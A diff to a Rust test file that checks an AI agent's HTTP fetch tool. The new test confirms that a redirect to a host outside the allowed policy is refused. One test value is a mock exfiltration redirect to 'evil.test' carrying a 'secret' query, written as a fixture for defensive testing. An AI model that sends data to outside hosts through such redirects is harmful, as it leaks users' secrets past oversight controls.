@@ -1,8 +1,8 @@
 //! `http.get` through the guard: pages as text, marked as the words of others.
 
-use crate::egress_parts::{bad_server, guard};
+use crate::egress_parts::{bad_server, guard, percent_encoded};
 use crate::mcp_parts::context;
-use cortex_tools::{HttpGet, Mutation, ToolCallError, ToolRunner};
+use cortex_tools::{CallContext, HostPolicy, HttpGet, Mutation, ToolCallError, ToolRunner};
 use std::net::SocketAddr;
 use std::sync::Arc;
 
@@ -32,6 +32,26 @@ async fn a_long_page_is_cut_with_a_mark() {
     let page = get(server, "/long").await.unwrap();
     assert!(page.ends_with("word [cut: the page goes on]") || page.ends_with("\n[cut: the page goes on]"));
     assert!(page.len() < 41_000, "{}", page.len());
+}
+
+#[tokio::test]
+async fn a_page_sends_a_call_on_to_no_host_beyond_its_reach() {
+    let server = bad_server().await;
+    let tool = HttpGet::new(Arc::new(guard(&Arc::default(), &[server])));
+    let name = HttpGet::definition().unwrap().name;
+    let reach = HostPolicy::only(&["127.0.0.1"]).unwrap();
+    let context = CallContext { reach, ..context() };
+    let get = async |to: &str| {
+        let hop = format!(r#"{{"url":"http://{server}/redirect?{}"}}"#, percent_encoded(to));
+        tool.run(&name, &hop, &context).await
+    };
+    assert!(get("/page").await.unwrap().text.ends_with("Gr\u{fc}n"));
+    let refused = get("http://evil.test/?q=secret").await;
+    let told = "the page sends on to evil.test, which the person did not name; nothing was sent there.";
+    assert!(
+        matches!(&refused, Err(ToolCallError::Failed(reason)) if reason.starts_with(told)),
+        "{refused:?}"
+    );
 }
 
 #[tokio::test]
